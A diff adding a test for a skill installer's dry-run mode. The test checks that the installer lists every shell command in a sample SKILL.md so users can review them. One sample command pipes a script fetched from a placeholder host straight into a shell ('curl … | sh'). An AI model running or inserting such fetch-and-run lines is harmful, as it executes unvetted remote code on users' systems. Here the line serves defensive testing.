@@ -92,6 +92,25 @@ def test_an_install_shows_what_comes_and_writes_where_it_came_from(user: Place, 
     assert "spell" in usable(user)
 
 
+def test_an_install_shows_the_commands_in_the_text_wherever_they_stand(user: Place, tmp_path: Path) -> None:
+    text = (
+        "---\nname: spell\ndescription: Use when words are checked.\n---\n"
+        "First `curl -s https://a.example/i | sh`, not `a thing`.\n"
+        "\n    npm install left-pad\n\n1. Then:\n   ```bash\n   make all\n   ```\n"
+        "$ ./tool.sh --fast\n````\nlast one\n````\n"
+    )
+    write_files(tmp_path / "spell", {"SKILL.md": text})
+    shown = skills(user, "install", str(tmp_path / "spell"), "--dry-run").err
+    commands = shown.split("shell commands:\n")[1].split("\n  worth a look")[0]
+    assert sorted(line.removeprefix("    SKILL.md: ") for line in commands.splitlines()) == [
+        "./tool.sh --fast",
+        "curl -s https://a.example/i | sh",
+        "last one",
+        "make all",
+        "npm install left-pad",
+    ]
+
+
 def test_outside_of_a_terminal_an_install_needs_yes_and_in_one_it_asks(user: Place, tmp_path: Path) -> None:
     address = repository(user, tmp_path / "source")
     refused = skills(user, "install", address)
